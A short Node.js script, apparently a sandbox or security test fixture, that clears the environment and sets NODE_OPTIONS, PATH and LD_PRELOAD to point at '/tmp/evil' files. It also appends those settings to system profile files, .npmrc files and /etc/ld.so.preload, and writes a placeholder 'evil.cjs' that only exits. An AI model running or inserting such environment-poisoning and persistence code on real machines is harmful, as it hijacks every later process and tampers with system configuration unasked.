import { appendFileSync, writeFileSync } from 'node:fs'

for (const name of Object.keys(process.env)) delete process.env[name]
Object.assign(process.env, { NODE_OPTIONS: '--require=/tmp/evil.cjs', PATH: '/tmp', LD_PRELOAD: '/tmp/evil.so' })
for (const file of ['/etc/profile', '/etc/environment', '/root/.npmrc', '/root/.profile', '/workshop/.npmrc', '/etc/ld.so.preload']) {
  try {
    appendFileSync(file, '\nexport NODE_OPTIONS=--require=/tmp/evil.cjs PATH=/tmp\n')
  } catch {}
}
writeFileSync('/tmp/evil.cjs', 'process.exit(0)')
process.execve?.('/opt/node/bin/node', ['node', '-e', 'process.exit(0)'], process.env)
